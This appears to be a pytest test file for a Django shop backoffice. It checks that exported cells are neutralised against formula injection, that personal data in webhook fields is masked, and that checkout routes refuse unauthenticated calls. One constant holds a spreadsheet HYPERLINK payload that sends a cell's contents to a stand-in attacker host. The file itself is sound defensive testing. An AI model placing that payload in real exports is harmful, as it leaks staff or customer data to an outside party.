"""A shopper: she wants the goods without paying, or has staff's spreadsheet and screens do what she says."""

import pytest
from django.test import Client

from backoffice.kit.tables import harmless
from tests.support.factories import OrderFactory
from webhooks.privacy import masked

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "before",
    ["", " ", "\n", "\r\n", "\t", "\u00a0", " \n\t "],
    ids=["", "space", "LF", "CRLF", "tab", "nbsp", "several"],
)
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠"])
def test_she_calls_herself_a_formula(before: str, sign: str) -> None:
    assert harmless(f"{before}{sign}{FORMULA[1:]}").startswith("'")


@pytest.mark.parametrize("text", ["Ana", "12990", " Ana", "a=b", "São João"])
def test_other_names_stay_what_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("status_message", "Pagamento de Beatriz Lima recusado"),
        ("national_id", "529.982.247-25"),
        ("national_id", "52998224725"),
        ("national_id", 52998224725),
        ("company_id", "11.222.333/0001-81"),
        ("user_id", "beatriz@correio.example"),
        ("user_id", "+55 11 98765-4321"),
        ("contact_method", "(11) 98765-4321"),
        ("event", "PaymentNotAuthorized | Reason: Beatriz"),
    ],
)
def test_her_data_are_in_a_field_with_a_harmless_name(name: str, value: object) -> None:
    assert str(value) not in str(masked({name: value}))


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("order_id", 95922371),
        ("order_id", "95922371"),
        ("status", "chargeback_em_tratativa"),
        ("event", "order_paid"),
        ("method", "credit_card"),
        ("paid_at", "2026-05-21 05:34:30"),
        ("date", "21/05/2026"),
        ("created_at", "2026-11-25T10:00:00.000000Z"),
        ("external_key", "7c9e6679-7425-40de-944b-e07fc1f90ae7"),
    ],
)
def test_what_staff_need_stays_readable(name: str, value: object) -> None:
    assert masked({name: value}) == {name: value}


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["pay/pix", "refund", "order", "tokenize", "upsell"])
def test_she_calls_the_shops_routes_herself(client: Client, path: str) -> None:
    order = OrderFactory.create()

    answer = client.post(f"/checkout/{order.installation.external_key}/{path}", "{}", content_type="application/json")

    assert answer.status_code == 401
